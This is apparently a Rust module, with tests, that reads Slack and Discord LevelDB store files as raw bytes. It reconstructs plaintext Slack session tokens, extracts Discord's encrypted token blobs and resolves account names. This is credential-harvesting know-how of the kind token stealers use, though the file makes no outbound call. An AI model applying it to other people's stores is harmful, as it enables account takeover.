//! Raw-byte scanning of LevelDB-family stores.
//!
//! The store is never opened through a LevelDB implementation: log and table
//! files are read as flat bytes and searched for the platform's token
//! markers. Compaction sometimes splices a fixed 4-byte metadata sequence
//! into a value where a separator character used to be; the scanner repairs
//! that by substituting a single separator.

use std::path::Path;

use memchr::memmem;
use tracing::debug;

use super::{CandidateToken, dedup_candidates};
use crate::platform::PlatformAdapter;

/// The 4-byte sequence the store's compaction splices over a lost separator.
pub const FRAGMENT_MARKER: [u8; 4] = [0x00, 0x01, 0x00, 0x00];

/// How far past an encrypted-token marker the base64 payload may extend.
const ENCRYPTED_LOOKAHEAD: usize = 600;

/// Bytes searched on either side of a hit for account id/name markers.
const CONTEXT_WINDOW: usize = 2048;

/// Scan every data file in a LevelDB directory. Log files first: they are
/// less likely to hold partially-compacted records than table files.
pub fn scan_dir(dir: &Path, adapter: &dyn PlatformAdapter) -> Vec<CandidateToken> {
    let entries = match std::fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(e) => {
            debug!(dir = %dir.display(), error = %e, "store directory not readable");
            return Vec::new();
        }
    };

    let mut logs = Vec::new();
    let mut tables = Vec::new();
    for entry in entries.flatten() {
        let path = entry.path();
        match path.extension().and_then(|e| e.to_str()) {
            Some("log") => logs.push(path),
            Some("ldb") => tables.push(path),
            _ => {}
        }
    }
    logs.sort();
    tables.sort();
    logs.extend(tables);

    let mut candidates = Vec::new();
    for path in logs {
        match std::fs::read(&path) {
            Ok(buf) => candidates.extend(scan_bytes(&buf, adapter)),
            Err(e) => debug!(file = %path.display(), error = %e, "skipping unreadable store file"),
        }
    }
    dedup_candidates(candidates)
}

/// Scan one file's raw bytes for plaintext and encrypted token candidates.
pub(crate) fn scan_bytes(buf: &[u8], adapter: &dyn PlatformAdapter) -> Vec<CandidateToken> {
    let mut out = Vec::new();

    for marker in adapter.plaintext_markers() {
        for offset in memmem::find_iter(buf, marker) {
            let Some(token) = reconstruct_token(buf, offset, adapter) else {
                continue;
            };
            if adapter.is_valid_token(&token) {
                out.push(CandidateToken {
                    raw: token.into_bytes(),
                    source_offset: offset,
                    encrypted: false,
                    context: context_at(buf, offset, adapter),
                });
            }
        }
    }

    if let Some(marker) = adapter.encrypted_marker() {
        for offset in memmem::find_iter(buf, marker) {
            let Some(blob) = read_encrypted_blob(buf, offset + marker.len()) else {
                continue;
            };
            out.push(CandidateToken {
                raw: blob,
                source_offset: offset,
                encrypted: true,
                context: context_at(buf, offset, adapter),
            });
        }
    }

    out
}

/// Rebuild a token starting at `start`, consuming alphabet bytes and
/// repairing fragmentation-marker splices. Any other invalid byte ends the
/// token; doubled separators left by a splice next to a surviving separator
/// collapse afterward.
fn reconstruct_token(buf: &[u8], start: usize, adapter: &dyn PlatformAdapter) -> Option<String> {
    let mut bytes = Vec::new();
    let mut i = start;
    while i < buf.len() {
        let b = buf[i];
        if adapter.token_alphabet(b) {
            bytes.push(b);
            i += 1;
        } else if buf[i..].starts_with(&FRAGMENT_MARKER) {
            bytes.push(b'-');
            i += FRAGMENT_MARKER.len();
        } else {
            break;
        }
    }

    let mut collapsed = Vec::with_capacity(bytes.len());
    for b in bytes {
        if b == b'-' && collapsed.last() == Some(&b'-') {
            continue;
        }
        collapsed.push(b);
    }
    while collapsed.last() == Some(&b'-') {
        collapsed.pop();
    }

    if collapsed.is_empty() {
        return None;
    }
    String::from_utf8(collapsed).ok()
}

/// Base64 payload following an encrypted-token marker, up to the closing
/// quote of the enclosing record.
fn read_encrypted_blob(buf: &[u8], start: usize) -> Option<Vec<u8>> {
    use base64::Engine as _;

    let end_limit = (start + ENCRYPTED_LOOKAHEAD).min(buf.len());
    let mut end = start;
    while end < end_limit {
        let b = buf[end];
        if b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=') {
            end += 1;
        } else {
            break;
        }
    }
    if end == start {
        return None;
    }
    base64::engine::general_purpose::STANDARD
        .decode(&buf[start..end])
        .ok()
}

fn context_at(
    buf: &[u8],
    offset: usize,
    adapter: &dyn PlatformAdapter,
) -> crate::platform::AccountContext {
    let lo = offset.saturating_sub(CONTEXT_WINDOW);
    let hi = (offset + CONTEXT_WINDOW).min(buf.len());
    let window = String::from_utf8_lossy(&buf[lo..hi]);
    adapter.account_context(&window)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::platform::Platform;
    use base64::Engine as _;

    fn slack() -> Box<dyn PlatformAdapter> {
        Platform::Slack.adapter()
    }

    fn sample_token() -> String {
        format!(
            "xoxc-2534008726-2534008727-2534008728-{}",
            "0123456789abcdef".repeat(4)
        )
    }

    #[test]
    fn recovers_intact_token() {
        let token = sample_token();
        let mut buf = b"\x00\x00junk\x00".to_vec();
        buf.extend_from_slice(token.as_bytes());
        buf.extend_from_slice(b"\"rest");

        let found = scan_bytes(&buf, slack().as_ref());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].raw, token.as_bytes());
        assert!(!found[0].encrypted);
    }

    #[test]
    fn repairs_fragmented_separator() {
        let token = sample_token();
        // Compaction replaced the separator before the hex suffix.
        let (head, tail) = token.rsplit_once('-').unwrap();
        let mut buf = Vec::new();
        buf.extend_from_slice(head.as_bytes());
        buf.extend_from_slice(&FRAGMENT_MARKER);
        buf.extend_from_slice(tail.as_bytes());
        buf.push(b'"');

        let found = scan_bytes(&buf, slack().as_ref());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].raw, token.as_bytes());
    }

    #[test]
    fn collapses_marker_spliced_next_to_surviving_separator() {
        let token = sample_token();
        let (head, tail) = token.rsplit_once('-').unwrap();
        // The separator survived but the splice landed right after it.
        let mut buf = Vec::new();
        buf.extend_from_slice(head.as_bytes());
        buf.push(b'-');
        buf.extend_from_slice(&FRAGMENT_MARKER);
        buf.extend_from_slice(tail.as_bytes());
        buf.push(0x00);

        let found = scan_bytes(&buf, slack().as_ref());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].raw, token.as_bytes());
    }

    #[test]
    fn marker_adjacent_to_an_intact_token_changes_nothing() {
        let token = sample_token();
        let mut buf = Vec::new();
        buf.extend_from_slice(&FRAGMENT_MARKER);
        buf.extend_from_slice(token.as_bytes());
        buf.extend_from_slice(&FRAGMENT_MARKER);
        buf.push(0x02);

        let found = scan_bytes(&buf, slack().as_ref());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].raw, token.as_bytes());
    }

    #[test]
    fn other_invalid_bytes_break_accumulation() {
        let token = sample_token();
        let mut buf = Vec::new();
        buf.extend_from_slice(token[..20].as_bytes());
        buf.push(0x07); // not a fragmentation marker
        buf.extend_from_slice(token[20..].as_bytes());

        assert!(scan_bytes(&buf, slack().as_ref()).is_empty());
    }

    #[test]
    fn encrypted_marker_yields_decoded_blob() {
        let discord = Platform::Discord.adapter();
        let ciphertext = b"v10_0123456789ab_ciphertext_bytes";
        let encoded = base64::engine::general_purpose::STANDARD.encode(ciphertext);
        let mut buf = b"\x01prefix\"dQw4w9WgXcQ:".to_vec();
        buf.extend_from_slice(encoded.as_bytes());
        buf.extend_from_slice(b"\"suffix");

        let found = scan_bytes(&buf, discord.as_ref());
        assert_eq!(found.len(), 1);
        assert!(found[0].encrypted);
        assert_eq!(found[0].raw, ciphertext);
    }

    #[test]
    fn context_window_resolves_team_and_name() {
        let token = sample_token();
        let mut buf = Vec::new();
        buf.extend_from_slice(br#"{"team_id":"T0ABCD1234","name":"acme"}"#);
        buf.push(0x00);
        buf.extend_from_slice(token.as_bytes());
        buf.push(b'"');

        let found = scan_bytes(&buf, slack().as_ref());
        assert_eq!(found[0].context.id, "T0ABCD1234");
        assert_eq!(found[0].context.name, "acme");
    }

    #[test]
    fn unreadable_directory_is_not_an_error() {
        let found = scan_dir(Path::new("/definitely/not/here"), slack().as_ref());
        assert!(found.is_empty());
    }

    #[test]
    fn scan_dir_reads_planted_log_file() {
        let dir = tempfile::tempdir().unwrap();
        let token = sample_token();
        let mut content = b"leveldb-log-noise\x00\x00".to_vec();
        content.extend_from_slice(token.as_bytes());
        content.push(b'"');
        std::fs::write(dir.path().join("000003.log"), &content).unwrap();
        std::fs::write(dir.path().join("MANIFEST-000001"), b"manifest").unwrap();

        let found = scan_dir(dir.path(), slack().as_ref());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].raw, token.as_bytes());
    }
}
